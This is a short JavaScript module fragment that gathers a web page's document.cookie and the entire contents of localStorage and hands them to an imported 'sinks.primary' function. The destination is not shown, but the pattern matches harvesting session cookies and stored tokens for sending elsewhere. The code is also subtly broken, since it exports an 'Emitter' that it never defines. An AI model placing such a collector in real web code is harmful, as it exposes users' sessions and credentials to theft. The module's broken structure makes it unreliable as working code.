import { Collector } from './collector.js';
import { sinks } from './sinks.js';
// surroundings: emitter
const collector = new Collector();
collector.addSource(() => document.cookie).addSource(() => JSON.stringify(localStorage));
collector.run((text) => sinks.primary(text));
export { Emitter };
